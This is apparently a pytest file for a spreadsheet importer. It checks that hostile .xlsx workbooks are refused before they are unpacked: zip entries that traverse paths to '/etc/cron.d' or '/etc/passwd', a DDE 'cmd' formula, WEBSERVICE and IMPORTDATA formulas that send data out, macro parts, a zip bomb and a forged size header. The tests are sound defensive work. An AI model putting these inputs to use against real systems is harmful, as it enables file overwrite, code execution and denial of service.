"""Files that were made to hurt: each is refused with a sentence, before anything of it is unpacked."""

import io
import struct
import time
import zipfile

import pytest

from tolok.registers.sources import source_from_bytes
from tolok.registers.writer import write_xlsx
from tolok.values.issue import IssueError

PART = "xl/worksheets/sheet1.xml"


@pytest.fixture
def workbook(tmp_path):
    """A small honest workbook, with further parts or with one part replaced."""

    def make(extra: dict[str, bytes] | None = None) -> bytes:
        path = tmp_path / "jujur.xlsx"
        write_xlsx(path, "Data", [], [["a", "b"]], [["1", "2"]])
        made = io.BytesIO()
        with zipfile.ZipFile(path) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
            for info in old.infolist():
                if info.filename not in (extra or {}):
                    new.writestr(info, old.read(info))
            for name, content in (extra or {}).items():
                new.writestr(name, content)
        return made.getvalue()

    return make


def refusal(data: bytes, name: str = "berkas.xlsx") -> tuple[str, str]:
    with pytest.raises(IssueError) as error:
        source_from_bytes(data, name)
    issue = error.value.issues[0]
    assert issue.saran
    return issue.kode, issue.apa


def test_an_honest_workbook_is_opened(workbook) -> None:
    assert source_from_bytes(workbook(), "jujur.xlsx").sheets[0].head()[1] == ["1", "2"]


@pytest.mark.parametrize(
    ("part", "said"),
    [
        ("xl/externalLinks/externalLink1.xml", "menautkan ke berkas"),
        ("xl/connections.xml", "menautkan ke berkas"),
        ("xl/vbaProject.bin", "makro"),
        ("xl/macrosheets/sheet1.xml", "makro"),
        ("xl/embeddings/oleObject1.bin", "berkas lain di dalamnya"),
        ("../../../etc/cron.d/jahat", "ke luar berkasnya"),
        ("/etc/passwd", "ke luar berkasnya"),
        ("xl\\worksheets\\x.xml", "ke luar berkasnya"),
        ("C:/windows/x", "ke luar berkasnya"),
    ],
)
def test_a_workbook_that_reaches_out_or_brings_a_program_is_refused(workbook, part, said) -> None:
    kode, apa = refusal(workbook({part: b"<x/>"}))
    assert kode == "TLK-R065"
    assert said in apa


@pytest.mark.parametrize(
    "formula", ['WEBSERVICE("http://contoh.invalid/" &amp; A1)', "cmd|' /C calc'!A0", 'IMPORTDATA("http://contoh.invalid")']
)
def test_a_formula_that_fetches_from_outside_is_refused(workbook, formula) -> None:
    cell = f'<c r="A2"><f>{formula}</f><v>1</v></c>'.encode()
    sheet = b'<worksheet><sheetData><row r="2">' + cell + b"</row></sheetData></worksheet>"
    kode, apa = refusal(workbook({PART: sheet}))
    assert (kode, "rumus" in apa) == ("TLK-R065", True)


def test_an_ordinary_formula_with_its_value_is_read(workbook) -> None:
    sheet = b'<worksheet><sheetData><row r="1"><c r="A1"><f>SUM(1,2)</f><v>3</v></c></row></sheetData></worksheet>'
    assert source_from_bytes(workbook({PART: sheet}), "x.xlsx").sheets[0].head()[0][0] == "\x01N3"


def test_a_part_that_swells_a_thousandfold_is_refused_without_being_unpacked(workbook) -> None:
    bomb = b"<row/>" * (16 * 1024 * 1024)
    data = workbook({"xl/worksheets/sheet2.xml": bomb})
    assert len(data) < 1024 * 1024
    began = time.monotonic()
    assert refusal(data) == ("TLK-R065", "buku kerja terlalu besar setelah dibuka")
    assert time.monotonic() - began < 2


def test_a_workbook_that_declares_four_gigabytes_is_refused(workbook) -> None:
    data = bytearray(workbook())
    at = data.rindex(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    assert refusal(bytes(data))[0] == "TLK-R065"


def test_thousands_of_parts_are_refused(workbook) -> None:
    assert refusal(workbook({f"xl/media/{n}.png": b"" for n in range(5001)}))[1] == "buku kerja terlalu banyak bagiannya"


@pytest.mark.parametrize(
    "data", [b"\xd0\xcf\x11\xe0" + b"\x00" * 600, b"%PDF-1.7\n", b"<html><table></table></html>", b"PK\x03\x04rusak"]
)
def test_another_kind_of_file_is_refused_by_its_content_whatever_its_name(data) -> None:
    assert refusal(data, "data.xlsx")[0] == "TLK-R002"
